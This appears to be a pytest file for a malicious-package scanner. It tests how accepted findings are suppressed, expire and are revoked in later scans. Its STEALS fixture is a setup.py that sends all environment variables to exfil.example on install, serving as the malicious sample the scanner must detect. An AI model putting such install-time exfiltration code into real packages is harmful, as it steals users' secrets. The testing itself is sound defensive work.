"""What a team accepted does not count in the next scan, and is another question than before."""

from __future__ import annotations

import datetime
import json

import pytest
from django.utils import timezone

from packamal.config import Suppression as Entry
from packamal.model import Level
from packamal.server.accounts.models import User
from packamal.server.analyses.claims import Asker
from packamal.server.analyses.models import Analysis
from packamal.server.analyses.states import Lane
from packamal.server.pipeline import parts
from packamal.server.pipeline.quarantine import Incoming
from packamal.server.pipeline.run import run_next
from packamal.server.pipeline.submit import submit, submit_upload
from packamal.server.review import deciding
from packamal.server.review.models import Decision, Suppression

pytestmark = [pytest.mark.django_db, pytest.mark.allow_hosts(["127.0.0.1"])]
STEALS = """
import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
setup()
"""
REASON = "our own package: it tells us \u2192 where it is installed"


def ask(purl, **more):
    claimed = submit(purl, Asker(), Lane.BULK, **more)
    if claimed.is_new:
        assert run_next("w")
        claimed.analysis.refresh_from_db()
    return claimed


def report_of(row):
    return json.loads(parts.store().get(row.report_id))


def accept_all(row, purl="*"):
    user, _ = User.objects.get_or_create(username="ada")
    ends = (timezone.now().date() + datetime.timedelta(days=30)).isoformat()
    [sha256] = row.artifacts.values_list("sha256", flat=True)
    for rule in row.rules.values_list("rule", flat=True):
        deciding.accept(row, user, Entry(REASON, rule, purl, "*", sha256, ends), "ada")


def test_an_accepted_finding_does_not_count_in_the_next_analysis_and_says_why(index):
    first = ask(index.add("greedy", "1.0", STEALS)).analysis
    assert first.findings_count > 0
    accept_all(first, "pkg:pypi/greedy@*")
    again = ask("pkg:pypi/greedy@1.0")
    assert again.is_new
    row = again.analysis
    assert (row.level, row.findings_count) == (Level.CLEAN, 0)
    assert {one["suppressed"] for one in report_of(row)["findings"]} == {REASON}
    assert not ask("pkg:pypi/greedy@1.0").is_new
    assert ask("pkg:pypi/greedy").analysis != first


def test_it_holds_for_the_content_that_was_looked_at_alone(index):
    accept_all(ask(index.add("greedy", "1.0", STEALS)).analysis, "pkg:pypi/greedy@*")
    other = ask(index.add("greedy", "2.0", STEALS + "# more\n")).analysis
    assert other.level != Level.CLEAN
    assert ask(index.add("other", "1.0", STEALS)).analysis.accepted == ""


def test_what_was_taken_back_or_is_over_holds_no_more(index):
    first = ask(index.add("greedy", "1.0", STEALS)).analysis
    accept_all(first)
    accepted = ask("pkg:pypi/greedy@1.0").analysis
    Suppression.objects.update(ends_on=timezone.now().date() - datetime.timedelta(days=1))
    assert ask("pkg:pypi/greedy@1.0").analysis == first
    Suppression.objects.update(ends_on=timezone.now().date())
    assert ask("pkg:pypi/greedy@1.0").analysis == accepted
    Decision.objects.update(undone_at=timezone.now())
    assert ask("pkg:pypi/greedy@1.0").analysis == first


def test_what_is_accepted_while_it_waits_holds_for_its_scan(index):
    first = ask(index.add("greedy", "1.0", STEALS)).analysis
    waiting = submit("pkg:pypi/greedy", Asker(), Lane.BULK).analysis
    accept_all(first)
    assert run_next("w")
    waiting.refresh_from_db()
    assert waiting.level == Level.CLEAN
    assert waiting.accepted


def test_an_upload_is_judged_anew_as_well(index, settings):
    index.add("greedy", "1.0", STEALS)
    incoming = Incoming(settings.PACKAMAL.quarantine_dir)
    incoming.write(index.files["greedy-1.0.tar.gz"])
    digest = incoming.keep("greedy-1.0.tar.gz")

    def send():
        claimed = submit_upload(digest, "greedy-1.0.tar.gz", Asker(), Lane.BULK)
        if claimed.is_new:
            assert run_next("w")
        return Analysis.objects.get(pk=claimed.analysis.pk)

    first = send()
    accept_all(first)
    second = send()
    assert first.level != Level.CLEAN
    assert (second.level, second.findings_count) == (Level.CLEAN, 0)
    assert send() == second
